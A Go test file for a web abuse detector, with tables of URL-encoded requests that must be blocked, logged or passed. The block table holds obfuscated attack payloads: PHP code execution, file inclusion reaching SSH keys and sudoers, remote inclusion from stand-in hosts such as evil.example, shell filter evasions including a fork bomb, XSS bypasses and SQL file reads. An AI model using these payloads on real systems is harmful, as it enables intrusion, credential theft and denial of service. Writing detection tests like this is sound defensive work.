package payload

import (
	"context"
	"testing"

	"github.com/warden-dev/warden/abuse"
)

// Attack families and their look-alikes, one table per decision:
// familyBlock must block (>= 0.8), familyGrey may be logged but must not
// block (< 0.8), familyBenign must not even be logged (<= 0.5). The
// cases are written for these tests, one or two per family, not taken
// from an evaluation corpus.

var familyBlock = []struct {
	name string
	req  *abuse.Request
}{
	// PHP: calls of functions that run code, read files or disclose
	// the environment, in the shapes that hide them from "name(".
	{"php dangerous call", get("/p?v=get_defined_vars%28%29%5B1%5D")},
	{"php eval on a variable", post("application/x-www-form-urlencoded", "x=eval%28%24_x%29%3B")},
	{"php posix family", get("/p?v=posix_getppid%28%29")},
	{"php call with comment", get("/p?v=readfile%2F%2A%2A%2F%28%27x%27%29")},
	{"php call with newline", get("/p?v=shell_exec%0A%28%27id%27%29")},
	{"php name cut by comment in text", get("/p?v=we+use+gzinflate%2F%2Ax%2A%2F%28%24d%29+here")},
	{"php quoted callee", get("/p?v=return%22passthru%22%28%24c%29.x")},
	{"php parenthesised callee", post("application/x-www-form-urlencoded", "c=%28%27exec%27%29%28%27ls%27%29")},
	{"php variable call", get("/p?v=%24fn%2842%29")},
	{"php static variable call", get("/p?v=Klass%3A%3A%24m%28%29")},
	{"php nested subscript call", get("/p?v=%24a%5B%24b%5B0%5D%5D%281%29")},
	{"php short tag statement", get("/p?v=%3C%3F+%09print+%24x")},
	{"php stream wrapper", get("/p?file=phar%3A%2F%2Fuploads%2Favatar.jpg%2Fx")},
	{"php data wrapper", get("/p?file=data%3A%2F%2Ftext%2Fplain%3Bbase64%2CPD9waHA%3D")},
	{"js sink call", get("/p?v=setInterval%28x%2C9%29")},

	// LFI and RFI.
	{"lfi deep traversal", get("/p?f=..%2F..%2F..%2Fvar%2Fwww%2Fapp%2F.env.bak")},
	{"lfi deep windows traversal", get(`/p?f=..\..\..\inetpub\logs`)},
	{"lfi web-inf", get("/p?f=..%2FWEB-INF%2Fweb.xml")},
	{"lfi ssh key", get("/p?f=%2Fhome%2Fu%2F.ssh%2Fid_ed25519")},
	{"lfi file url", get("/p?src=file%3A%2F%2F%2Fetc%2Fissue")},
	{"lfi system path with traversal", get("/p?f=..%2F..%2Fproc%2Fmeminfo")},
	{"lfi sam hive", get(`/p?f=c:\windows\repair\sam`)},
	{"rfi script on ip host", get("/p?page=http%3A%2F%2F203.0.113.9%2Fshell.txt")},
	{"rfi script on bare ipv6 host", get("/p?page=https%3A%2F%2F2001%3Adb8%3A%3A1%2Fx.php")},
	{"rfi script with suffix cut", get("/p?page=http%3A%2F%2Fevil.example%2Fc99.php%3F")},
	{"rfi script with nul", get("/p?page=http%3A%2F%2Fevil.example%2Fx.txt%00")},

	// Node.js and JavaScript loops; SSRF host names.
	{"node string subscript call", get("/p?x=process%5B%22binding%22%5D%28%22fs%22%29")},
	{"js infinite loop", get("/p?x=while%28%210%29%3B")},
	{"js infinite loop constant", get("/p?x=while%28Infinity%29")},
	{"ssrf container host", get("/p?url=host.containers.internal%3A2375%2Fcontainers")},

	// SQL: server file access and select lists cut at a call.
	{"sql server file read", get("/p?id=1+and+pg_ls_dir%28%27.%27%29+is+not+null")},
	{"sql large object", get("/p?id=lo_import%28%27%2Fetc%2Fhostname%27%29")},
	{"sql select cut at call", post("application/x-www-form-urlencoded", "id=SELECT+substring%28")},

	{"php chr chain", get("/p?x=%24%7B%40print%28chr%28105%29.chr%28100%29%29%7D")},
	{"sql char concatenation", get("/p?x=1+union+select+CHAR%2883%29%2BCHAR%2884%29")},
	{"mssql dynamic exec", post("application/x-www-form-urlencoded", "q=1%3Bexec%28%40cmd%29")},
	{"php ini directive", post("application/x-www-form-urlencoded", "v=auto_prepend_file%3Dphp%3A%2F%2Finput")},
	{"php ini section directive", post("application/x-www-form-urlencoded", "v=session.save_handler%3Dfiles")},
	{"command reading a system file", get("/p?c=head+%2Fetc%2Fsudoers")},

	// Shell: command words hidden by quoting, expansions or syntax.
	{"shell quoted command", get("/p?h=x%3Bw%27ho%27ami")},
	{"shell empty expansion in word", get("/p?h=wg%24%40et+x")},
	{"shell empty backticks", get("/p?h=uname%60%60+-a")},
	{"shell brace expansion", get("/p?h=%7Bcat%2C%2Fetc%2Fhosts%7D")},
	{"shell process substitution", get("/p?h=diff+%3C%28ls+%2Froot%29")},
	{"shell glob path", get("/p?h=cat+%2Fe%3Fc%2Fsh%2A")},
	{"shell function bomb", post("application/x-www-form-urlencoded", "c=b%28%29%7B+b%7Cb%26+%7D%3Bb")},
	{"shell variables assembled", get("/p?c=x%3Dca%3By%3Dt%3B%24x%24y+%2Fetc%2Fhostname")},
	{"program path with arguments", post("application/x-www-form-urlencoded", "c=%2Fusr%2Fbin%2Fpython3+-c+%27import+os%27")},
	{"find exec", post("application/x-www-form-urlencoded", "c=find+%2Fhome+-name+%2A.key+-exec+cat+%7B%7D+%5C%3B")},
	{"batch for with glued do", get("/p?c=%26+for+%25i+in+%28x%29do+call+y")},
	{"batch if with block", get("/p?c=if+exist+c%3A%5Cboot.ini+%28type+c%3A%5Cboot.ini%29")},
	{"command chained at start", get("/p?c=uname%3B%24%28id%29")},
	{"package manager after separator", get("/p?c=x%26%26apt-get+install+-y+nmap")},
	// XSS: handlers, URIs and JavaScript written around the word lists.
	{"xss attribute breakout handler", get("/p?q=x%22onpointerrawupdate%3Dx")},
	{"xss rare handler name", post("application/json", `{"bio":"<p onbeforetoggle=x>"}`)},
	{"xss tag slash handler", get("/p?q=%3Cx%2Fonfocusin%3Dy")},
	{"xss javascript uri with code", get("/p?next=javascript:top%5B%27al%27%2B%27ert%27%5D%281%29")},
	{"xss css url", get("/p?style=background:url%28javascript:x%29")},
	{"xss global subscript call", get("/p?q=window%5B%27ev%27%2B%27al%27%5D%28x%29")},
	{"xss global subscript with comments", get("/p?v=top+%2F%2Ax%2A%2F+%5B+%22confirm%22+%5D%28%29")},
	{"xss jsfuck", get("/p?q=%5B%5D%5B%28%21%5B%5D%2B%5B%5D%29%5B%2B%5B%5D%5D%5D")},
	{"xss tagged template", get("/p?q=%5B1%5D.find.call%60%24%7Bprompt%7D%60")},
	{"xss sink after breakout", get("/p?q=x%27%3Bconfirm%28document.domain%29%2F%2F")},
	{"xss vml frame", get("/p?q=%3Cv%3Avmlframe+src%3D%22x%22%3E")},
	{"js function constructor", get("/p?v=new+Function%28%22x%22%29")},
	{"smtp recipient injection", post("application/x-www-form-urlencoded", "msg=hi%0D%0ARCPT+TO%3A%3Cvictim%40example.org%3E")},
}

var familyGrey = []struct {
	name string
	req  *abuse.Request
}{
	{"generic function call", get("/p?v=printf%28name%29")},
	{"word include in parentheses", get("/p?q=Include+%28optional%29")},
	{"php prose", post("application/json", `{"t":"php is a language; <? starts a tag in it"}`)},
	{"relative link", post("application/json", `{"href":"../images/logo.png"}`)},
	{"url with a query string", get("/p?next=https%3A%2F%2Fexample.com%2Fsearch%3Fq%3Da%26page%3D2")},
	{"windows path in a help article", post("application/json", `{"t":"Copy the file to C:\\Users\\me\\Documents and restart."}`)},
	{"unix path in a sentence", post("application/json", `{"t":"Edit /etc/nginx/nginx.conf and reload."}`)},
	{"download link to a script", get("/p?url=https%3A%2F%2Fcdn.example.com%2Finstall.sh")},
	{"javascript book title", post("application/json", `{"t":"JavaScript: The Good Parts, 2008"}`)},
	{"inert javascript link", post("application/json", `{"href":"javascript:void(0)"}`)},
	{"markdown image and checkbox", post("application/json", `{"t":"- [ ] todo\n![](https://example.com/a.png) (see [1]+[2])"}`)},
	{"template literal in prose", post("application/json", `{"t":"Use a template: `+"`Hello ${name}`"+` in JS"}`)},
	{"word list with slash", get("/p?q=and%2Fonwards%3Dx")},
	{"js loop that never runs", get("/p?x=while%28%21true%29%3B")},
	{"while in prose", get("/p?q=while+%28waiting%29")},
	{"session word in prose", post("application/json", `{"t":"session.save worked = fine"}`)},
	{"version number", get("/p?v=1.e5&w=2.5e-3")},
	{"contractions", post("application/json", `{"t":"I'd say it's fine, let's go; we'll see what's next"}`)},
	{"markdown code span", post("application/json", `{"t":"Use `+"`cat`"+` to print a file and `+"`ls`"+` to list a folder."}`)},
	{"pipe separated list", get("/p?ref=hp%7Cgen%7Ctop%7Cwomen")},
	{"field list with id first", get("/api/users?fields=id%3Bname%3Bemail")},
	{"json object text", post("application/json", `{"t":"{a,b} and {x: 1, y: 2} are sets"}`)},
	{"windows path", post("application/json", `{"t":"Open C:\\Program Files\\App\\dir and edit config.ini"}`)},
	{"email header words", post("application/json", `{"t":"Subject: hi\nmail from: Bob, rcpt to: Ann"}`)},
	{"xml declaration", post("application/json", `{"doc":"<?xml version=\"1.0\" encoding=\"UTF-8\"?><a/>"}`)},
	{"variable before a parenthesis", post("application/json", `{"v":"$total (approx)"}`)},
	{"inline html in a comment", post("application/json", `{"comment":"<b>bold</b> and <i>italic</i>"}`)},
	{"system path alone", get("/p?log=%2Fvar%2Flog%2Fnginx%2Faccess.log")},
	{"remote url in a path parameter", get("/p?full_path=https%3A%2F%2Fshop.example%2Fa%3Fb%3D1")},
	{"windows system folder", post("application/json", `{"t":"C:\\Windows\\System32\\drivers"}`)},
	{"bare command line", get("/p?q=ls+-la")},
	{"program path alone", get("/p?interpreter=%2Fusr%2Fbin%2Fpython3")},
	{"shell command in prose", post("application/json", `{"t":"run ls -la to list files; then cd /tmp"}`)},
}

var familyBenign = []struct {
	name string
	req  *abuse.Request
}{
	{"file copy name", post("application/json", `{"name":"Copy (2)"}`)},
	{"markdown link named like a function", post("application/json", `{"body":"See [system](https://example.com/docs/system) and [copy](/copy)."}`)},
	{"quoted word before parenthesis", post("application/json", `{"t":"the \"copy\" (2) button"}`)},
}

func TestFamilies(t *testing.T) {
	d := newTestDetector(t)
	ctx := context.Background()
	for _, tc := range familyBlock {
		t.Run("block/"+tc.name, func(t *testing.T) {
			if v := d.Detect(ctx, tc.req); v.Confidence < 0.8 {
				t.Errorf("not blocked: %q %.2f %q", v.Violation, v.Confidence, v.Messages)
			}
		})
	}
	for _, tc := range familyGrey {
		t.Run("grey/"+tc.name, func(t *testing.T) {
			if v := d.Detect(ctx, tc.req); v.Confidence >= 0.8 {
				t.Errorf("blocked: %q %.2f %q", v.Violation, v.Confidence, v.Messages)
			}
		})
	}
	for _, tc := range familyBenign {
		t.Run("benign/"+tc.name, func(t *testing.T) {
			if v := d.Detect(ctx, tc.req); v.Confidence > 0.5 {
				t.Errorf("flagged: %q %.2f %q", v.Violation, v.Confidence, v.Messages)
			}
		})
	}
}

// Every computed signal belongs to a class: one without would be
// recorded and then dropped from the verdict.
func TestComputedSignalsHaveClass(t *testing.T) {
	for id := 0; id < numComputed; id++ {
		if c := signalClass(len(rules) + id); c == cNone {
			t.Errorf("computed signal %q has no class", computedNames[id])
		}
	}
}
